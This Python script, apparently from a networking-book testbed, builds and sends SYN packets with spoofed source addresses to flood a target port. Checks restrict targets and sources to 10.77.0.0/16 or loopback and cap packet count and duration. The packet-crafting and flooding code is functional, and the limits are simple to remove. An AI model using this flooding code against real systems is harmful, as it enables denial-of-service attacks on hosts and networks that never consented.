"""synflood: SYNs with spoofed source addresses (the book's "SYN flooding"), bounded.

    synflood.py TARGET --port P [--count 2000] [--rate 2000] [--seconds 5]
                [--source-prefix 10.77.1.128/25]

Network safety: the target must be inside the testbed's own prefix 10.77.0.0/16 (or
loopback), and so must every spoofed source; the count and the time are capped. Needs
CAP_NET_RAW (raw socket with IP_HDRINCL).
"""

from __future__ import annotations

import argparse
import ipaddress
import random
import socket
import struct
import time

import unp

TESTBED = ipaddress.IPv4Network("10.77.0.0/16")
BRIDGE_HOST = 254
LOOPBACK = ipaddress.IPv4Network("127.0.0.0/8")
MAX_COUNT, MAX_SECONDS = 100_000, 30.0


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    offset_flags = (5 << 12) | 0x02  # 20-byte header, SYN
    tcp = struct.pack("!HHIIHHHH", sport, dport, seq, 0, offset_flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        total,
        random.getrandbits(16),
        0,
        64,
        6,
        0,
        socket.inet_aton(src),
        socket.inet_aton(dst),
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + tcp


def machine(ip: ipaddress.IPv4Address) -> bool:
    """Host part 254 of every testbed /24 is its bridge's address under compose: the machine
    itself, never a target and never a spoofed source (its RSTs would answer for it)."""
    return ip in TESTBED and int(ip) & 0xFF == BRIDGE_HOST


def allowed(target: str, prefix: str) -> list[ipaddress.IPv4Address]:
    """The spoofed sources; the target and the prefix checked against the testbed."""
    ip = ipaddress.IPv4Address(target)
    if ip not in TESTBED and ip not in LOOPBACK:
        unp.err_quit(f"synflood: {target} is outside the testbed (10.77.0.0/16): refused")
    if machine(ip):
        unp.err_quit(f"synflood: {target} is a bridge's address, the machine's: refused")
    if not ipaddress.IPv4Network(prefix).subnet_of(TESTBED):
        unp.err_quit(f"synflood: source prefix {prefix} is outside 10.77.0.0/16: refused")
    sources = [a for a in ipaddress.IPv4Network(prefix).hosts() if not machine(a)]
    if not sources:
        unp.err_quit(f"synflood: source prefix {prefix} has no address to spoof: refused")
    return sources


def main() -> None:
    parser = argparse.ArgumentParser(usage="synflood.py TARGET --port P [--count N]")
    parser.add_argument("target")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=2000)
    parser.add_argument("--rate", type=float, default=2000.0, help="SYNs per second")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--source-prefix", default="10.77.1.128/25")
    args = parser.parse_args()
    hosts = allowed(args.target, args.source_prefix)
    if not (0 < args.count <= MAX_COUNT and 0 < args.seconds <= MAX_SECONDS and args.rate > 0):
        unp.err_quit(f"synflood: count 1..{MAX_COUNT}, seconds up to {MAX_SECONDS:g}, rate > 0")
    unp.started()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    started, sent = time.monotonic(), 0
    while sent < args.count and time.monotonic() - started < args.seconds:
        src = str(random.choice(hosts))
        packet = syn(
            src, args.target, random.randint(1024, 65535), args.port, random.getrandbits(32)
        )
        sock.sendto(packet, (args.target, 0))
        sent += 1
        pause = started + sent / args.rate - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    print(f"sent {sent} spoofed SYNs in {time.monotonic() - started:.2f} s", flush=True)
    unp.event("sent", count=sent)
    unp.finished(0)


if __name__ == "__main__":
    main()
